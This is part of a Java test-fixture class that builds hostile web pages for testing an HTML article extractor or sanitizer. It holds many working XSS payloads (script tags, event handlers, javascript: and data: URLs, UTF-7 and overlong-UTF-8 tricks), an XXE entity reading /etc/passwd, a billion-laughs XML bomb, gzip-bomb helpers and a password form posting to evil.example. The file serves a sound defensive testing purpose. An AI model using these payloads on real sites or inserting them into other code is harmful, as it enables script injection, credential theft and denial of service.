        giant(pages, "2,000 tag names of 9,999 characters", () -> html(article("", ("<" + "y".repeat(9_999) + ">").repeat(2_000))));
        giant(pages, "1 MB tag name", () -> html(article("", "<" + mega + ">text</" + mega + ">")));
        giant(pages, "1 MB byline", () -> html(article("", "<p class=\"byline\">By " + megaWords + "</p>")));
        giant(pages, "1 MB credit line", () -> html(article("", "<p>(" + "Reuters ".repeat(MB / 8) + ")</p>")));
    }

    private static void encodings(List<HostilePage> pages) {
        String arabic = arabicArticle();
        String french = article("", "<p>Le conseil a approuvé le budget du port après un débat sur les ferries, "
                + "l'été et les pêcheurs de l'île — « une victoire », a dit le maire.</p>");
        Charset cp1252 = Charset.forName("windows-1252");
        Charset cp1256 = Charset.forName("windows-1256");
        add(pages, "declares UTF-8, windows-1252 bytes", () -> bytes(french.getBytes(cp1252), "text/html"));
        add(pages, "declares UTF-8 in transport, windows-1252 bytes", () -> bytes(french.getBytes(cp1252), "text/html; charset=utf-8"));
        add(pages, "declares UTF-8, windows-1256 bytes", () -> bytes(arabic.getBytes(cp1256), "text/html"));
        add(pages, "declares UTF-8 in transport, windows-1256 bytes", () -> bytes(arabic.getBytes(cp1256), "text/html; charset=utf-8"));
        add(pages, "declares windows-1256, UTF-8 bytes", () -> bytes(arabic.replace("charset=\"utf-8\"", "charset=\"windows-1256\"")
                .getBytes(StandardCharsets.UTF_8), "text/html"));
        add(pages, "half UTF-8, half windows-1256", () -> {
            byte[] a = arabic.getBytes(StandardCharsets.UTF_8);
            byte[] b = arabic.getBytes(cp1256);
            return bytes(concat(Arrays.copyOf(a, a.length / 2), Arrays.copyOfRange(b, b.length / 2, b.length)), "text/html");
        });
        add(pages, "UTF-8 BOM, meta says windows-1256", () -> bytes(withBom(new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf},
                arabic.replace("charset=\"utf-8\"", "charset=\"windows-1256\"").getBytes(StandardCharsets.UTF_8)), "text/html"));
        add(pages, "UTF-8 BOM, windows-1256 bytes", () -> bytes(withBom(new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf},
                arabic.getBytes(cp1256)), "text/html"));
        add(pages, "UTF-16LE BOM, meta says UTF-8", () -> bytes(withBom(new byte[] {(byte) 0xff, (byte) 0xfe},
                arabic.getBytes(StandardCharsets.UTF_16LE)), "text/html"));
        add(pages, "UTF-16BE BOM, transport says windows-1252", () -> bytes(withBom(new byte[] {(byte) 0xfe, (byte) 0xff},
                arabic.getBytes(StandardCharsets.UTF_16BE)), "text/html; charset=windows-1252"));
        add(pages, "UTF-16LE without BOM", () -> bytes(arabic.getBytes(StandardCharsets.UTF_16LE), "text/html"));
        add(pages, "UTF-16BE without BOM", () -> bytes(french.getBytes(StandardCharsets.UTF_16BE), "text/html"));
        add(pages, "UTF-16LE without BOM, declared in transport", () -> bytes(arabic.getBytes(StandardCharsets.UTF_16LE),
                "text/html; charset=utf-16le"));
        add(pages, "UTF-16 BOM, odd number of bytes", () -> {
            byte[] b = withBom(new byte[] {(byte) 0xff, (byte) 0xfe}, arabic.getBytes(StandardCharsets.UTF_16LE));
            return bytes(Arrays.copyOf(b, b.length - 1), "text/html");
        });
        add(pages, "UTF-32 BOM", () -> bytes(withBom(new byte[] {(byte) 0xff, (byte) 0xfe, 0, 0},
                french.getBytes(Charset.forName("UTF-32LE"))), "text/html"));
        add(pages, "UTF-7 declared with +ADw-script+AD4-", () -> html(article("", "").replace("charset=\"utf-8\"", "charset=\"utf-7\"")
                .replace("<h1>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<h1>")));
        add(pages, "UTF-7 in transport", () -> bytes(("+ADw-html+AD4-+ADw-body+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
                + article("", "")).getBytes(StandardCharsets.US_ASCII), "text/html; charset=utf-7"));
        add(pages, "overlong UTF-8 for < and >", () -> bytes(concat(article("", "<p>").getBytes(StandardCharsets.UTF_8),
                new byte[] {(byte) 0xc0, (byte) 0xbc, 's', 'c', 'r', 'i', 'p', 't', (byte) 0xc0, (byte) 0xbe, 'a', 'l', 'e', 'r', 't',
                        '(', '1', ')', (byte) 0xc0, (byte) 0xbc, '/', 's', 'c', 'r', 'i', 'p', 't', (byte) 0xc0, (byte) 0xbe}),
                "text/html; charset=utf-8"));
        add(pages, "overlong 3-byte UTF-8 for <", () -> bytes(concat(article("", "<p>").getBytes(StandardCharsets.UTF_8),
                new byte[] {(byte) 0xe0, (byte) 0x80, (byte) 0xbc, 'i', 'm', 'g', ' ', 'o', 'n', 'e', 'r', 'r', 'o', 'r', '=', '1',
                        (byte) 0xe0, (byte) 0x80, (byte) 0xbe}), "text/html"));
        add(pages, "UTF-8 surrogates encoded", () -> bytes(concat(article("", "<p>").getBytes(StandardCharsets.UTF_8),
                new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80, (byte) 0xed, (byte) 0xbf, (byte) 0xbf}), "text/html"));
        add(pages, "5- and 6-byte UTF-8 sequences", () -> bytes(concat(article("", "<p>").getBytes(StandardCharsets.UTF_8),
                new byte[] {(byte) 0xf8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80, (byte) 0xfc, (byte) 0x84, (byte) 0x80,
                        (byte) 0x80, (byte) 0x80, (byte) 0x80}), "text/html"));
        add(pages, "lone continuation bytes", () -> bytes(concat(article("", "<p>").getBytes(StandardCharsets.UTF_8),
                new byte[] {(byte) 0x80, (byte) 0xbf, (byte) 0x80, (byte) 0xbf}), "text/html"));
        String[] bogus = {"bogus", "utf-8; charset=latin1", "\"", "", "x-user-defined", "utf-16", "utf-32", "ebcdic-cp-us",
                "../../etc/passwd", "iso-2022-jp", "replacement", "hz-gb-2312", "x".repeat(10_000), "utf-8\u0000", "UTF8",
                "unicode-1-1-utf-7", "ibm037", "cp1026"};
        for (int i = 0; i < bogus.length; i++) {
            String charset = bogus[i];
            add(pages, "transport charset '" + abbreviate(charset) + "'", () -> bytes(french.getBytes(StandardCharsets.UTF_8),
                    "text/html; charset=" + charset));
            add(pages, "meta charset '" + abbreviate(charset) + "'", () -> html(french.replace("charset=\"utf-8\"",
                    "charset=\"" + charset + "\"")));
        }
        add(pages, "http-equiv charset conflicting with meta charset", () -> html(arabic.replace("<meta charset=\"utf-8\">",
                "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=windows-1256\"><meta charset=\"iso-8859-1\">")));
        add(pages, "meta charset after 1 MB of comment", () -> html("<!--" + " ".repeat(MB) + "-->" + arabic.replace("charset=\"utf-8\"",
                "charset=\"windows-1256\"")));
        add(pages, "xml declaration with encoding", () -> html("<?xml version=\"1.0\" encoding=\"windows-1256\"?>" + arabic));
        add(pages, "shift_jis declared, random high bytes", () -> {
            byte[] noise = new byte[3000];
            Random random = new Random(SEED * 23);
            for (int j = 0; j < noise.length; j++) {
                noise[j] = (byte) (0x80 + random.nextInt(0x7f));
            }
            return bytes(concat("<html><head><meta charset=\"shift_jis\"></head><body><p>".getBytes(StandardCharsets.US_ASCII), noise),
                    "text/html");
        });
        add(pages, "right-to-left override characters", () -> html(article("", "<p>\u202e\u202dgnp.exe\u202c harmless text "
                + "\u2066\u2067\u2068\u2069</p>")));
        add(pages, "unassigned and private-use code points", () -> html(article("", "<p>\ue000\uf8ff\ufffe\uffff \udbff\udfff</p>")));
        add(pages, "unpaired surrogate entities", () -> html(article("", "<p>&#xD800;&#xDFFF;&#x110000;&#99999999999;</p>")));
        add(pages, "C1 control entities", () -> html(article("", "<p>&#x80;&#x9f;&#150;</p>")));
    }

    /** Tags that must never reach the record's html, in the spellings attackers use. */
    private static void dangerousTags(List<HostilePage> pages) {
        String[] tags = {
                "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt>alert(1)</sCrIpT>",
                "<script src=\"https://evil.example/x.js\"></script>", "<script/src=\"//evil.example/x.js\"></script>",
                "<script\ttype=\"text/javascript\">alert(1)</script>", "<script\n>alert(1)</script\n>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)", "<<script>script>alert(1)<</script>/script>",
                "<script type=\"module\">import('//evil')</script>", "<script type=\"application/ld+json\">{\"a\":\"</p>\"}</script>",
                "<style>body{background:url(javascript:alert(1))}</style>", "<STYLE>@import 'http://evil/x.css';</STYLE>",
                "<style>p{behavior:url(x.htc);-moz-binding:url(x.xml#x)}</style>", "<p style=\"background:url(javascript:alert(1))\">s</p>",
                "<p style=\"width:expression(alert(1))\">s</p>",
                "<iframe src=\"https://evil.example/\"></iframe>", "<IFRAME SRC=\"javascript:alert(1)\"></IFRAME>",
                "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>", "<iframe src=x>fallback text</iframe>",
                "<frameset><frame src=\"javascript:alert(1)\"></frameset>", "<object data=\"javascript:alert(1)\"></object>",
                "<object type=\"text/html\" data=\"//evil\"><param name=x value=y></object>", "<embed src=\"javascript:alert(1)\">",
                "<embed src=\"//evil/x.swf\" type=\"application/x-shockwave-flash\">", "<applet code=\"X.class\"></applet>",
                "<form action=\"https://evil.example/steal\"><input name=password type=password><button>go</button></form>",
                "<form><button formaction=\"javascript:alert(1)\">x</button></form>", "<FORM ACTION=javascript:alert(1)><input type=submit></FORM>",
                "<isindex action=\"javascript:alert(1)\" type=image>", "<svg><script>alert(1)</script></svg>",
                "<svg onload=\"alert(1)\"><circle r=\"10\"/></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknIC8+PC9zdmc+#x\"/></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=\"javascript:alert(1)\">m</math>",
                "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<xmp><script>alert(1)</script></xmp>", "<textarea><script>alert(1)</script></textarea>",
                "<title><script>alert(1)</script></title>", "<noembed><script>alert(1)</script></noembed>",
                "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
                "<base href=\"javascript:alert(1)//\">", "<marquee onstart=alert(1)>m</marquee>", "<details open ontoggle=alert(1)>d</details>",
                "<video><source onerror=\"alert(1)\"></video>", "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>",
                "<img src=\"x` `<script>alert(1)</script>\"` `>", "<img \"\"\"><script>alert(1)</script>\">",
                "<a href=\"#\" title=\"</a><script>alert(1)</script>\">t</a>", "<div><plaintext><script>alert(1)</script>",
                "<select><option><script>alert(1)</script></option></select>", "<keygen autofocus onfocus=alert(1)>",
                "<portal src=\"//evil\"></portal>", "<slot><script>alert(1)</script></slot>", "<dialog open><form method=dialog></form></dialog>",
                "<p>\u003cscript\u003ealert(1)\u003c/script\u003e</p>", "<p>&lt;script&gt;alert(1)&lt;/script&gt; as text</p>",
        };
        String[] places = {"body", "head", "table", "figure"};
        for (int i = 0; i < tags.length; i++) {
            String tag = tags[i];
            for (String place : places) {
                add(pages, "dangerous tag #" + i + " in " + place + ": " + abbreviate(tag), () -> html(switch (place) {
                    case "head" -> article(tag, "");
                    case "table" -> article("", "<table><tr><td>" + tag + " cell text</td></tr></table>");
                    case "figure" -> article("", "<figure><img src=\"https://img.example/a.jpg\">" + tag
                            + "<figcaption>caption</figcaption></figure>");
                    default -> article("", tag);
                }));
            }
        }
        add(pages, "page that is only a script", () -> html("<script>alert(1)</script>"));
        add(pages, "article inside a script", () -> html("<html><body><script>" + article("", "") + "</script></body></html>"));
        add(pages, "article inside noscript", () -> html("<html><body><noscript>" + article("", "") + "</noscript></body></html>"));
        add(pages, "article inside a form", () -> html("<html><body><form action=\"//evil\">" + article("", "") + "</form></body></html>"));
        add(pages, "article inside an svg foreignObject", () -> html("<html><body><svg><foreignObject>" + article("", "")
                + "</foreignObject></svg></body></html>"));
        add(pages, "article inside a template", () -> html("<html><body><template>" + article("", "") + "</template></body></html>"));
        add(pages, "article inside an iframe", () -> html("<html><body><iframe>" + article("", "") + "</iframe></body></html>"));
    }

    private static final String[] HANDLERS = {"onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur",
            "onanimationstart", "onpointerenter", "ONLOAD", "OnError", "onbegin", "ontoggle", "onauxclick", "onwheel",
            "onbeforeprint", "oncopy", "onscroll", "onsubmit", "oninput", "onfocusin"};

    private static final String[] HANDLER_ELEMENTS = {"p", "div", "img src=\"https://img.example/a.jpg\"", "a href=\"https://x.example/\"",
            "h2", "blockquote", "table", "td", "span", "figure", "li", "em", "strong", "time", "abbr", "pre", "code", "sup",
            "q cite=\"https://x.example/\"", "hr"};

    private static void eventHandlers(List<HostilePage> pages) {
        String[] forms = {"%s=\"alert(1)\"", "%s='alert(1)'", "%s=alert(1)", "%s = \"alert(1)\"", "/%s=alert(1)", "\n%s\n=\nalert(1)"};
        int n = 0;
        for (String element : HANDLER_ELEMENTS) {
            String tag = element.split(" ")[0];
            for (int h = 0; h < HANDLERS.length; h++) {
                String handler = HANDLERS[h];
                String form = forms[(n++) % forms.length];
                String attribute = String.format(form, handler);
                String markup = tag.equals("hr") || tag.equals("img")
                        ? "<" + element + " " + attribute + ">"
                        : "<" + element + " " + attribute + ">handled text</" + tag + ">";
                String wrapped = switch (tag) {
                    case "td" -> "<table><tr>" + markup + "</tr></table>";
                    case "li" -> "<ul>" + markup + "</ul>";
                    default -> markup.startsWith("<p") || markup.startsWith("<div") || markup.startsWith("<h2")
                            || markup.startsWith("<blockquote") || markup.startsWith("<table") || markup.startsWith("<figure")
                            || markup.startsWith("<pre") || markup.startsWith("<hr") ? markup : "<p>" + markup + " in a paragraph</p>";
                };
                add(pages, "event handler " + handler + " on " + tag + " (" + abbreviate(attribute) + ")", () -> html(article("", wrapped)));
            }
        }
        add(pages, "event handlers on html and body", () -> html(article("", "").replace("<html ", "<html onload=alert(1) ")
                .replace("<body>", "<body onload=\"alert(1)\" onpageshow=alert(1)>")));
        add(pages, "event handler on article", () -> html(article("", "").replace("<article>", "<article onmouseover=alert(1)>")));
        add(pages, "every element has a handler", () -> html(article("", "").replaceAll("<([a-z0-9]+)([ >])", "<$1 onclick=\"alert(1)\"$2")));
    }

    /** Payloads that run script when a link is followed or a resource loaded, in their disguises. */
    private static final String[] SCRIPT_URLS = {
            "javascript:alert(1)", "JaVaScRiPt:alert(1)", "JAVASCRIPT:alert(1)", "java\tscript:alert(1)",
            "java\nscript:alert(1)", "java\rscript:alert(1)", "java&#x09;script:alert(1)", "java&#10;script:alert(1)",
            "&#106;avascript:alert(1)", "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
            "&#0000106&#0000097vascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", " javascript:alert(1)",
            "\u0001javascript:alert(1)", "\u00a0javascript:alert(1)", "jav&Tab;ascript:alert(1)", "javas&NewLine;cript:alert(1)",
            "vbscript:msgbox(1)", "VBScript:MsgBox(1)", "vb&#x09;script:msgbox(1)",
            "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "DATA:TEXT/HTML,x", "data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E", "da&#x74;a:text/html,x",
            "data:image/svg+xml,<svg onload=alert(1)>", "livescript:alert(1)", "mocha:alert(1)"};

    /** Where a URL can sit: each string has one {@code %s} for the URL. */
    private static final String[] URL_SITES = {
            "<a href=\"%s\">link text</a>", "<a href='%s'>link text</a>", "<img src=\"%s\">", "<img srcset=\"%s 1x, %s 2x\">",
            "<img src=\"https://img.example/a.jpg\" srcset=\"https://img.example/b.jpg 1x, %s 2x\">",
            "<iframe src=\"%s\"></iframe>", "<form><button formaction=\"%s\">go</button></form>", "<input type=image formaction=\"%s\">",
            "<svg><a xlink:href=\"%s\"><text>x</text></a></svg>", "<object data=\"%s\"></object>", "<embed src=\"%s\">",
            "<map><area href=\"%s\"></map>", "<blockquote cite=\"%s\">quoted words</blockquote>", "<q cite=\"%s\">quoted</q>",
            "<video poster=\"%s\"></video>", "<table background=\"%s\"><tr><td>cell</td></tr></table>",
            "<img dynsrc=\"%s\" lowsrc=\"%s\">", "<a href=\"https://x.example/\" data-href=\"%s\" xlink:href=\"%s\">safe</a>",
            "<img src=\"\" data-src=\"%s\">", "<img src=\"data:image/gif;base64,R0lGOD\" data-lazy-src=\"%s\">",
            "<del cite=\"%s\">old</del> <ins cite=\"%s\">new</ins>", "<a href=\"%s\" target=_blank rel=opener>t</a>",
            "<p><a href=%s>unquoted</a></p>", "<math><maction actiontype=statusline xlink:href=\"%s\">m</maction></math>"};

    private static void dangerousUrls(List<HostilePage> pages) {
        for (int s = 0; s < URL_SITES.length; s++) {
            for (int u = 0; u < SCRIPT_URLS.length; u++) {
                String url = SCRIPT_URLS[u];
                String site = URL_SITES[s];
                if (site.contains("=%s>") && (url.contains(" ") || url.contains(">"))) {
                    continue; // an unquoted attribute cannot hold these
                }
                String markup = site.replace("%s", url);
                add(pages, "script url #" + u + " in " + abbreviate(site) + ": " + abbreviate(url), () -> html(article("",
                        markup.startsWith("<table") || markup.startsWith("<blockquote") || markup.startsWith("<p>")
                                ? markup : "<p>" + markup + " around it</p>")));
            }
        }
        for (int u = 0; u < SCRIPT_URLS.length; u++) {
            int n = u;
            String url = SCRIPT_URLS[u].replace("\"", "&quot;");
            add(pages, "script url #" + u + " as canonical, og:url and og:image: " + abbreviate(url), () -> new PageInput(
                    article("<meta property=\"og:url\" content=\"" + url + "\"><meta property=\"og:image\" content=\"" + url + "\">", "")
                            .replace("href=\"" + URL + "\"", "href=\"" + url + "\"").getBytes(StandardCharsets.UTF_8),
                    null, "text/html", "page.html"));
            add(pages, "script url #" + u + " as the page's address: " + abbreviate(url),
                    () -> new PageInput(article("", "").getBytes(StandardCharsets.UTF_8), SCRIPT_URLS[n], "text/html", "page.html"));
        }
        for (int u = 0; u < SCRIPT_URLS.length; u++) {
            String url = SCRIPT_URLS[u];
            add(pages, "base href " + abbreviate(url), () -> html(article("<base href=\"" + url + "\">",
                    "<p><a href=\"relative/path\">relative</a> <img src=\"pic.jpg\"></p>")));
            add(pages, "base href " + abbreviate(url) + " and no page url", () -> new PageInput(article("<base href=\"" + url + "\">",
                    "<p><a href=\"relative/path\">relative</a> <img src=\"pic.jpg\"></p>").getBytes(StandardCharsets.UTF_8),
                    null, "text/html", null));
            add(pages, "script url " + abbreviate(url) + " with no page url", () -> new PageInput(article("",
                    "<p><a href=\"" + url + "\">link</a><img src=\"" + url + "\"></p>").getBytes(StandardCharsets.UTF_8),
                    null, null, null));
            add(pages, "script url " + abbreviate(url) + " as the page url", () -> new PageInput(article("",
                    "<p><a href=\"relative\">link</a></p>").getBytes(StandardCharsets.UTF_8), url, "text/html", null));
            add(pages, "script url " + abbreviate(url) + " as canonical and lead image", () -> html(article(
                    "<meta property=\"og:image\" content=\"" + url + "\"><meta property=\"og:url\" content=\"" + url + "\">", "")
                    .replace("href=\"" + URL + "\"", "href=\"" + url + "\"")));
        }
    }

    private static void notHtml(List<HostilePage> pages) {
        String[][] documents = {
                {"JSON object", "{\"title\": \"Harbour budget\", \"body\": \"<p>The council approved</p>\"}"},
                {"JSON array", "[1, 2, {\"html\": \"<html><body><script>alert(1)</script></body></html>\"}]"},
                {"JSON with html string first", "{\"html\": \"<!doctype html><html><body>" + PARAGRAPH.replace("\"", "\\\"") + "</body></html>\"}"},
                {"JSON nested 10,000 deep", "[".repeat(10_000) + "]".repeat(10_000)},
                {"JSON lines", "{\"a\":1}\n{\"a\":2}\n{\"a\":\"<script>\"}\n"},
                {"XML document", "<?xml version=\"1.0\"?><root><item>The council approved</item></root>"},
                {"XML with an XSLT stylesheet", "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"javascript:alert(1)\"?><root/>"},
                {"XML billion laughs", "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
                        + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]><lolz>&lol3;</lolz>"},
                {"XML external entity", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>"},
                {"XHTML document", "<?xml version=\"1.0\" encoding=\"utf-8\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><body><article><h1>T</h1>"
                        + PARAGRAPH.repeat(6) + "<script>alert(1)</script></article></body></html>"},
                {"RSS feed", "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>News</title><item><title>Harbour</title>"
                        + "<description>&lt;script&gt;alert(1)&lt;/script&gt;</description></item></channel></rss>"},
                {"RSS feed without xml declaration", "<rss version=\"2.0\"><channel><item><title>Harbour</title><link>javascript:alert(1)</link></item></channel></rss>"},
                {"Atom feed", "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>Harbour</title><content type=\"html\">"
                        + "&lt;p onclick=alert(1)&gt;x&lt;/p&gt;</content></entry></feed>"},
                {"RSS feed with CDATA html", "<?xml version=\"1.0\"?><rss><channel><item><description><![CDATA[" + article("", "<script>alert(1)</script>")
                        + "]]></description></item></channel></rss>"},
                {"sitemap", "<?xml version=\"1.0\"?><urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\"><url><loc>https://x.example/</loc></url></urlset>"},
                {"CSV", "id,title,body\n1,Harbour budget,\"The council approved the budget\"\n2,\"<script>alert(1)</script>\",x\n"},
                {"CSV with html-looking cells", "a,b\n<p>cell</p>,<div>cell</div>\n" + "1,2\n".repeat(1000)},
                {"plain text", "The council approved the harbour budget on Tuesday.\n\nThe mayor said the vote mattered.\n"},
                {"plain text with angle brackets", "if a < b and c > d then <nothing> happens\n"},
                {"markdown", "# Harbour budget\n\nThe council approved [the plan](javascript:alert(1)).\n"},
                {"javascript file", "document.write('<p>'); window.location = 'javascript:alert(1)';"},
                {"css file", "body { background: url(javascript:alert(1)); } p { color: red }"},
                {"svg document", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>"},
                {"email message", "From: a@example.com\nSubject: hi\nContent-Type: text/html\n\n<p>hello</p>"},
                {"HTTP response with headers", "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + article("", "")},
                {"PHP source", "<?php echo '<script>alert(1)</script>'; ?>"},
                {"a URL only", "https://example.com/<script>"},
                {"base64 of an html page", java.util.Base64.getEncoder().encodeToString(article("", "").getBytes(StandardCharsets.UTF_8))},
        };
        for (String[] doc : documents) {
            String name = doc[0];
            String body = doc[1];
            add(pages, name + " served as HTML", () -> html(body));
            add(pages, name + " served as HTML, with leading whitespace and BOM", () -> html("\ufeff \n" + body));
        }
    }

    private static void handWritten(List<HostilePage> pages) {
        Path folder = resourceFolder("hostile");
        try (Stream<Path> files = Files.list(folder)) {
            for (Path file : files.sorted().toList()) {
                String name = file.getFileName().toString();
                if (name.equals("README.md")) {
                    continue;
                }
                add(pages, "hand-written: " + name, () -> {
                    try {
                        return new PageInput(Files.readAllBytes(file), URL, null, name);
                    } catch (IOException e) {
                        throw new UncheckedIOException(e);
                    }
                });
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // ---- helpers

    private static String arabicArticle() {
        return "<!doctype html><html lang=\"ar\" dir=\"rtl\"><head><meta charset=\"utf-8\"><title>بغداد وواشنطن تؤكدان استمرار الشراكة"
                + "</title><meta property=\"og:site_name\" content=\"لوبوان24\"></head><body><article><h1>بغداد وواشنطن تؤكدان استمرار الشراكة</h1>"
                + "<p>أكدت بغداد وواشنطن استمرار الشراكة في محاربة تنظيم داعش، وقال المتحدث إن التعاون سيبقى قائما في السنوات المقبلة "
                + "رغم التحديات التي تواجه البلدين في المنطقة.</p>".repeat(6) + "</article></body></html>";
    }

    private static Path resourceFolder(String name) {
        URL url = HostilePages.class.getClassLoader().getResource(name);
        if (url == null) {
            throw new IllegalStateException("no test resource folder " + name);
        }
        try {
            return Path.of(url.toURI());
        } catch (URISyntaxException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String abbreviate(String s) {
        String printable = s.replaceAll("\\p{Cntrl}", "?");
        return printable.length() > 40 ? printable.substring(0, 40) + "…" : printable;
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] out = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    private static byte[] withBom(byte[] bom, byte[] text) {
        return concat(bom, text);
    }

    public static byte[] gzip(byte[] data) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream z = new GZIPOutputStream(out)) {
            z.write(data);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** Gzip of {@code chunk} repeated until {@code total} bytes: small on disk, huge expanded. */
    public static byte[] gzipRepeated(byte[] chunk, long total) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream z = new GZIPOutputStream(out, 64 * 1024)) {
            for (long written = 0; written < total; written += chunk.length) {
                z.write(chunk, 0, (int) Math.min(chunk.length, total - written));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
